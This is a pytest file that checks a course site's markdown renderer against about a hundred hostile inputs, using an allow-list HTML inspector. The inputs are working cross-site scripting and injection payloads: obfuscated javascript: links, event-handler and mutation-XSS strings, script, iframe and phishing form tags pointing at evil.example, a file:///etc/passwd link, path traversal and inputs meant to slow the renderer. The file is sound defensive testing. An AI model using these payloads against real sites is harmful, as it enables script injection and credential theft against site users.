"""Whatever somebody writes, nothing comes out that could run, load, or take over the page."""

import re
import time
from html.parser import HTMLParser

import pytest

from certprep.domain.course import Reference
from certprep.library.figures import Figure
from certprep.library.findings import Sources
from certprep.library.render import Renderer

ELEMENTS = {
    *("a", "blockquote", "br", "code", "div", "em", "figcaption", "figure", "h3", "h4", "h5", "h6", "hr", "img", "li"),
    *("ol", "p", "pre", "span", "strong", "sub", "sup", "table", "tbody", "td", "th", "thead", "tr", "ul"),
    *("math", "mrow", "mi", "mn", "mo", "mtext", "mspace", "mstyle", "msub", "msup", "msubsup", "mfrac", "msqrt"),
    *("button", "details", "summary"),  # a footnote's number and a figure in words
    *("mover", "munder", "mtable", "mtr", "mtd", "mroot", "munderover", "mpadded", "mphantom", "menclose"),
}
SOURCE = re.compile(r"/media/[0-9a-f]{64}\.svg")
LINK = re.compile(rf"(?:https?://|mailto:|#)[^\s<>\"']+|{SOURCE.pattern}", re.IGNORECASE)
ATTRIBUTES = {
    *("alt", "aria-label", "class", "height", "href", "id", "loading", "role", "scope", "src", "start", "tabindex"),
    *("width", "display", "mathvariant", "stretchy", "fence", "form", "accent", "columnalign", "linethickness"),
    *("popover", "popovertarget", "type"),
    *("minsize", "maxsize", "lspace", "rspace", "movablelimits", "displaystyle", "scriptlevel", "notation", "depth"),
}
PLAIN = {"type": "button", "popover": ""}  # attributes with one value
IDS = re.compile(r"(?:fn|fnref\d*):[\w.-]+|[a-z0-9-]+")

FIGURE = Figure(name="curve.svg", sha256="a" * 64, svg=b"", width=640, height=400)
REFERENCE = Reference(key="gastin-2001", short="<b onclick=x>Gastin</b>", source="", year=2001)


class Inspector(HTMLParser):
    """Complains of every element, attribute and address that has no business here."""

    def __init__(self) -> None:
        super().__init__()
        self.complaints: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in ELEMENTS:
            self.complaints.append(f"element {tag}")
        for name, value in attrs:
            self._attribute(name, value or "")

    def _attribute(self, name: str, value: str) -> None:
        if name in PLAIN and value != PLAIN[name]:
            self.complaints.append(f"attribute {name}={value}")
        wanted = {"popovertarget": IDS, "src": SOURCE, "href": LINK, "id": IDS}.get(name)
        if name not in ATTRIBUTES or (wanted and not wanted.fullmatch(value)):
            self.complaints.append(f"attribute {name}={value}")
        if name not in {"alt", "aria-label"} and "javascript" in value.lower():
            self.complaints.append(f"attribute {name}={value}")

    def handle_decl(self, decl: str) -> None:
        self.complaints.append(f"declaration {decl}")

    def handle_pi(self, data: str) -> None:
        self.complaints.append(f"instruction {data}")

    def handle_comment(self, data: str) -> None:
        self.complaints.append(f"comment {data}")


def complaints(html: str) -> list[str]:
    inspector = Inspector()
    inspector.feed(html)
    inspector.close()
    return inspector.complaints


HOSTILE = {
    "javascript link": "[x](javascript:alert(1))",
    "javascript link in capitals": "[x](JaVaScRiPt:alert(1))",
    "javascript link with a tab": "[x](java\tscript:alert(1))",
    "javascript link with a line break": "[x](java\nscript:alert(1))",
    "javascript link after spaces": "[x](<   javascript:alert(1)>)",
    "javascript link after a control character": "[x](\x01javascript:alert(1))",
    "javascript link with an entity": "[x](&#106;avascript:alert(1))",
    "javascript link with a hexadecimal entity": "[x](&#x6A;avascript&colon;alert(1))",
    "javascript link with a named entity": "[x](javascript&Tab;:alert(1))",
    "javascript link in percent signs": "[x](%6aavascript:alert(1))",
    "vbscript link": "[x](vbscript:msgbox(1))",
    "data link": "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "file link": "[x](file:///etc/passwd)",
    "relative link": "[x](../../admin)",
    "link without a scheme": "[x](//evil.example/)",
    "link with a title": '[x](https://example.org "a" onmouseover="alert(1)")',
    "link with quotes": '[x](https://example.org/"onmouseover="alert(1))',
    "reference link": "[x][1]\n\n[1]: javascript:alert(1)",
    "reference link with a title": '[x][1]\n\n[1]: https://example.org "><script>alert(1)</script>"',
    "autolink": "<javascript:alert(1)>",
    "autolink in capitals": "<JAVASCRIPT:alert(1)>",
    "autolink with a handler": '<https://example.org/"onmouseover=alert(1)>',
    "mail link": '<a@b.c"onmouseover="alert(1)>',
    "image": "![x](javascript:alert(1))",
    "image from elsewhere": "![x](https://evil.example/track.png)",
    "image with a broken alt": '![x" onerror="alert(1)](x.png)',
    "reference image": '![x][1]\n\n[1]: https://evil.example/x.png "y"',
    "script": "<script>alert(1)</script>",
    "script in a paragraph": "Before <script src=https://evil.example/x.js></script> after",
    "script in capitals": "<ScRiPt>alert(1)</sCrIpT>",
    "script in pieces": "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "unclosed script": "<script>alert(1)",
    "handler": '<img src=x onerror="alert(1)">',
    "handler with a slash": "<img/src=x/onerror=alert(1)>",
    "handler with backticks": "<img src=`x` onerror=`alert(1)`>",
    "handler on an allowed element": '<p onclick="alert(1)">x</p>',
    "svg": "<svg onload=alert(1)>",
    "svg with a script": "<svg><script>alert(1)</script></svg>",
    "svg animation": '<svg><animate onbegin="alert(1)" attributeName="x"></svg>',
    "math": '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
    "math that mutates": "<math><mtext><table><mglyph><style><!--</style><img title='--><img src=1 onerror=alert(1)>'>",
    "svg that mutates": "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "noscript that mutates": '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "meta": '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    "base": '<base href="https://evil.example/">',
    "link element": '<link rel="stylesheet" href="https://evil.example/x.css">',
    "style": "<style>@import 'https://evil.example/x.css';</style>",
    "style attribute": '<p style="position:fixed;inset:0">x</p>',
    "iframe": '<iframe src="https://evil.example"></iframe>',
    "iframe with a document": '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "object": '<object data="x.swf"></object><embed src="x.swf">',
    "form": '<form action="https://evil.example"><input name=password><button>Sign in</button></form>',
    "template": "<template><script>alert(1)</script></template>",
    "comment": "<!-- <script>alert(1)</script> -->",
    "conditional comment": "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "cdata": "<![CDATA[<script>alert(1)</script>]]>",
    "instruction": "<?php echo 1 ?>",
    "doctype": "<!DOCTYPE html><html><body onload=alert(1)>",
    "malformed tag": "<img src=x onerror=alert(1) //",
    "tag after a null": "<scr\x00ipt>alert(1)</script>",
    "closing tags": "</div></main></body><h1>Mine now</h1>",
    "attribute list": "text\n{: onclick=alert(1) style=color:red }",
    "attribute list on a heading": '## Heading {: onclick="alert(1)" objective="EXS-5.1" }',
    "attribute list on a link": '[x](https://example.org){: href="javascript:alert(1)" }',
    "attribute list with an id": "### Heading {: #location .admonition onclick=1 }",
    "attribute list on a cell": "| a |\n|---|\n| b {: onclick=alert(1) } |",
    "table with tags": "| <script>alert(1)</script> | b |\n|---|---|\n| <img src=x onerror=alert(1)> | [x](javascript:alert(1)) |",
    "maths with a script": r"$\text{<script>alert(1)</script>}$",
    "maths with an image": r"$\text{<img src=x onerror=alert(1)>}$",
    "maths with an escaped script": r"$\text{&lt;script&gt;alert(1)&lt;/script&gt;}$",
    "maths with a link": r"$\href{javascript:alert(1)}{x}$",
    "maths with a style": r"$\style{position:fixed}{x}\class{evil}{y}$",
    "maths with a colour": r'$\color{red"onclick="alert(1)}{x}$',
    "maths by code points": r"$\unicode{x3c}script\unicode{x3e}$",
    "maths on its own": "$$\n\\text{</math><script>alert(1)</script>}\n$$",
    "maths in a link's address": "[x](https://example.org/$a<b$)",
    "maths in a link's title": '[x](https://example.org "$a$")',
    "maths in a heading": r"## $\text{<script>alert(1)</script>}$",
    "footnote's name": 'x[^"><script>alert(1)</script>]\n\n[^"><script>alert(1)</script>]: y',
    "footnote's text": "x[^1]\n\n[^1]: <script>alert(1)</script> [y](javascript:alert(1))",
    "citation": '[@gastin-2001] [@"><script>alert(1)</script>]',
    "token of our own": "\ue000p0\ue001 \ue000h0\ue001 $a$",
    "token by entities": "&#xE000;p0&#xE001; [x](https://example.org/&#xE000;p0&#xE001;) $a$",
    "token of a heading": "<p>\ue000h0\ue001</p>\n\n## Heading",
    "markdown's own placeholder": "\x02wzxhzdk:0\x03 \x02klzzwxh:0000\x03 `<b>` *a*",
    "entities": "&lt;script&gt;alert(1)&lt;/script&gt; &#60;img src=x onerror=alert(1)&#62;",
    "code": "`<script>alert(1)</script>`",
    "code block": "    <script>alert(1)</script>",
    "figure with a broken alt": '/// figure | curve.svg\n    alt: x" onload="alert(1)\n\nCaption <script>\n///',
    "figure with tags in its alt": "/// figure | curve.svg\n    alt: <script>alert(1)</script>\n///",
    "figure from elsewhere": "/// figure | https://evil.example/x.svg\n    alt: x\n///",
    "figure up the folders": "/// figure | ../../../etc/passwd\n    alt: x\n///",
    "figure with attributes": "/// figure | curve.svg\n    alt: x\n    attrs: {onload: alert(1), style: 'x'}\n///",
    "case with a title": "/// case | <img src=x onerror=alert(1)> [x](javascript:alert(1))\nText\n///",
    "note with attributes": "/// note | Title\n    attrs: {onclick: 'alert(1)', id: evil}\n\nText\n///",
    "note with a tag": '/// note | "><script>alert(1)</script>\nText\n///',
    "block of another library": "/// html | script\nalert(1)\n///",
    "block of another library with attributes": "/// html | iframe[src=https://evil.example]\n///",
    "nested blocks": "//// note | a\n/// note | b\n/// note | c\n<script>\n///\n///\n////",
    "quotes in quotes": "> " * 300 + "<script>alert(1)</script>",
    "lists in lists": "\n".join("    " * depth + "- <script>" for depth in range(120)),
    "many brackets": "[" * 3_000 + "x" + "](javascript:alert(1))" * 200,
    "many escaped brackets": "[\\]" * 3_000,
    "many stars": "*a **b " * 1_500,
    "many backticks": "`" * 5_000 + "<script>",
    "maths in maths": "$" + r"\frac{" * 200 + "x" + "}{y}" * 200 + "$",
}  # fmt: skip


def test_there_are_plenty_of_hostile_inputs() -> None:
    assert len(HOSTILE) >= 40


def renderer() -> Renderer:
    return Renderer(
        Sources(
            figures={"curve.svg": FIGURE},
            references={"gastin-2001": REFERENCE},
            cited=frozenset({"gastin-2001"}),
        )
    )


@pytest.mark.parametrize("name", HOSTILE)
def test_a_hostile_text_stays_harmless(name: str) -> None:
    text, ours = HOSTILE[name], renderer()
    started = time.process_time()
    for surrounded in (text, f"- {text}", f"> {text}", f"**{text}**", f"x {text} y $a$"):
        assert not complaints(ours.block(surrounded).html)
        assert not complaints(ours.inline(surrounded).html)
        for piece in ours.module(surrounded).pieces:
            assert not complaints(piece.html)
    assert time.process_time() - started < 5  # nobody can hang the site with a text


def test_hostile_headings_and_titles_are_plain_text() -> None:
    """A heading leaves as text that the page escapes; only its anchor stands in an attribute."""
    ours = renderer()
    for text in HOSTILE.values():
        for piece in ours.module(f"## {text}").pieces:
            assert piece.heading is None or re.fullmatch(r"[a-z0-9-]+", piece.heading.anchor)


def test_the_inspector_would_notice() -> None:
    for html in (
        "<script>",
        "<p onclick=x>",
        '<a href="javascript:x">',
        '<img src="https://x">',
        "<!-- x -->",
        "<svg>",
    ):
        assert complaints(html), html


def test_the_same_text_gives_the_same_html() -> None:
    one, other = renderer(), renderer()
    for text in HOSTILE.values():
        assert one.module(text) == other.module(text)
